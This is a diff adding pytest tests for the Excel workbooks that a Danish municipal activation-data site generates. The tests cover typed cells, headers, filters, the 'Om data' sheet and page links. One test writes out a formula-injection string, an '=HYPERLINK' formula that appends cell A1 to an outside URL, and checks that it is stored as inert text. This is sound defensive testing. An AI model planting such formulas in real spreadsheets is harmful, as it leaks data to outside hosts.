@@ -5,6 +5,7 @@ openpyxl for the workbooks, sqlite3 for the database — and checked against the
 from __future__ import annotations
 
 import json
+import re
 import zipfile
 from pathlib import Path
 
@@ -14,6 +15,8 @@ from aktivering.load import read_csv
 from aktivering.validate import validate
 
 ALLE = Path("downloads") / "alle"
+# Columns whose cell is a date in a spreadsheet when it is one day (a month or an interval is text).
+ONE_DATE = ("reference_period", "start", "end", "participants_planned_date", "participants_actual_date")
 
 
 @pytest.fixture(scope="module")
@@ -151,3 +154,115 @@ def test_zip_names_are_utf8_when_not_ascii():
         assert zf.infolist()[0].flag_bits & 0x800  # general purpose bit 11: the name is UTF-8
     assert "helsingør".encode() in data and zip_bytes([("a", b"x")], "2018-03-01") == \
         zip_bytes([("a", b"x")], "2018-03-01")
+
+
+# --- 3. spreadsheets --------------------------------------------------------------------------
+
+def _open(path: Path):
+    from openpyxl import load_workbook
+
+    return load_workbook(path)  # not read-only: frozen panes, filters and widths are read too
+
+
+def _check_table_sheet(sheet, table: str, cells: list[dict]) -> None:
+    import datetime as dt
+
+    from aktivering import schemas
+
+    fields = schemas.canonical(table)["fields"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert list(rows[0]) == [f["name"] for f in fields]
+    assert len(rows) - 1 == len(cells)
+    for values, cell in zip(rows[1:], cells):
+        for value, field in zip(values, fields):
+            text = cell[field["name"]]
+            if text == "":
+                assert value is None, (field["name"], value)
+            elif field["type"] in ("number", "integer"):
+                assert isinstance(value, int | float) and not isinstance(value, bool) and value == float(text)
+            elif field["type"] == "boolean":
+                assert value is (text == "true")
+            elif field["type"] == "date" or (re.fullmatch(r"\d{4}-\d\d-\d\d", text) and field["name"] in ONE_DATE):
+                assert value == dt.datetime.fromisoformat(text), (field["name"], text, value)
+            else:
+                assert value == text, (field["name"], text, value)
+    assert sheet.freeze_panes == "A2"
+    if cells:
+        assert sheet.auto_filter.ref == sheet.dimensions
+    widths = [sheet.column_dimensions[c].width for c in "ABCDEFGHIJKLMNOPQ"[: len(fields)]]
+    assert all(8 <= w <= 62 for w in widths) and len(set(widths)) > 1
+
+
+def test_each_package_workbook_has_typed_cells_frozen_filtered_headers_and_om_data(built_site, packages):
+    from aktivering.downloads import table_rows
+
+    for package in packages:
+        book = _open(built_site / "downloads" / f"{package.name}.xlsx")
+        assert book.sheetnames == ["Tal", "Initiativer", "Breve", "Ikke-tal", "Om data", "Mål", "Ydelser",
+                                   "Grundlag", "Opgjort af", "Finansiering"]
+        for sheet, table in (("Tal", "figures"), ("Initiativer", "initiatives"), ("Breve", "documents"),
+                             ("Ikke-tal", "non_figures")):
+            _check_table_sheet(book[sheet], table, table_rows(package, table))
+        values = sum(c.value for c in book["Tal"]["H"][1:])  # column H is value: numbers sum
+        assert values == pytest.approx(sum(float(v) for v in package.figures["value"]))
+
+
+def test_om_data_has_source_licence_citation_and_every_column_and_the_code_lists(built_site, packages):
+    from aktivering import schemas
+    from aktivering.load import read_vocabulary
+
+    book = _open(built_site / "downloads" / "alle" / "alle-kommuner.xlsx")
+    about = {row[0]: row[1] for row in book["Om data"].iter_rows(values_only=True) if row[0]}
+    assert "CC BY 4.0" in about["Licens"] and about["Citér (kort)"].startswith("Aktivering i kommunerne (")
+    assert all(p.descriptor["title"] in about["Kilde"] for p in packages)
+    described = {(row[0], row[1]): (row[2], row[4] or "") for row in book["Om data"].iter_rows(values_only=True)}
+    for sheet, table in (("Tal", "figures"), ("Initiativer", "initiatives"), ("Breve", "documents"),
+                         ("Ikke-tal", "non_figures")):
+        for field in schemas.canonical(table)["fields"]:
+            assert described[sheet, field["name"]] == (field["title"], field.get("description", ""))
+    measures = read_vocabulary("measures")
+    rows = list(book["Mål"].iter_rows(values_only=True))
+    assert list(rows[0]) == list(measures.columns) and len(rows) == len(measures) + 1
+    assert len(list(book["Tal"].iter_rows())) == 1 + sum(len(p.figures) for p in packages)
+
+
+def test_workbook_text_never_becomes_a_formula_and_bytes_are_the_data_versions():
+    """openpyxl writes a str starting with '=' as a formula: a quote "=HYPERLINK(…)" would run."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from aktivering.workbook import workbook_bytes
+
+    hostile = '=HYPERLINK("https://example.org/?"&A1,"klik")'
+    rows = [{"document_id": "101-2017-01-01", "text": hostile, "quote": "+45 12 34 56 78", "reason": "-1",
+             "note": "@SUM(A1)"}]
+    data = workbook_bytes({"non_figures": rows}, [("Titel", "=1+1")], {}, "2018-03-01")
+    assert data == workbook_bytes({"non_figures": rows}, [("Titel", "=1+1")], {}, "2018-03-01")
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        assert not any(b"<f>" in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
+        assert b"2018-03-01T00:00:00Z" in zf.read("docProps/core.xml")
+        assert {i.date_time for i in zf.infolist()} == {(2018, 3, 1, 0, 0, 0)}
+    book = load_workbook(io.BytesIO(data))
+    row = [c for c in book["Ikke-tal"][2]]
+    assert [c.value for c in row] == ["101-2017-01-01", hostile, "+45 12 34 56 78", "-1", "@SUM(A1)"]
+    assert all(c.data_type == "s" for c in row)
+    assert [c.quotePrefix for c in row] == [False, True, True, True, True]
+    assert book["Om data"]["B2"].value == "=1+1" and book["Om data"]["B2"].data_type == "s"
+
+
+def test_every_kommune_page_and_the_data_page_link_their_workbook(built_site, packages):
+    """Kommune pages linked only a plain UTF-8 CSV, garbled in Danish Excel."""
+    from aktivering.load import read_kommuner
+    from aktivering.model import kommune_page
+
+    names = dict(zip(read_kommuner()["kommune_code"], read_kommuner()["name"]))
+    pages = {p.name: kommune_page(p.kommune_code, names.get(p.kommune_code)) for p in packages}
+    data = (built_site / "data" / "index.html").read_text(encoding="utf-8")
+    assert 'href="../downloads/alle/alle-kommuner.xlsx"' in data
+    for package in packages:
+        page = built_site / pages[package.name].removesuffix(".md").removesuffix("/index") / "index.html"
+        depth = len(page.relative_to(built_site).parts) - 1
+        href = "../" * depth + f"downloads/{package.name}.xlsx"
+        assert f'href="{href}"' in page.read_text(encoding="utf-8"), page
+        assert f'href="../downloads/{package.name}.xlsx"' in data
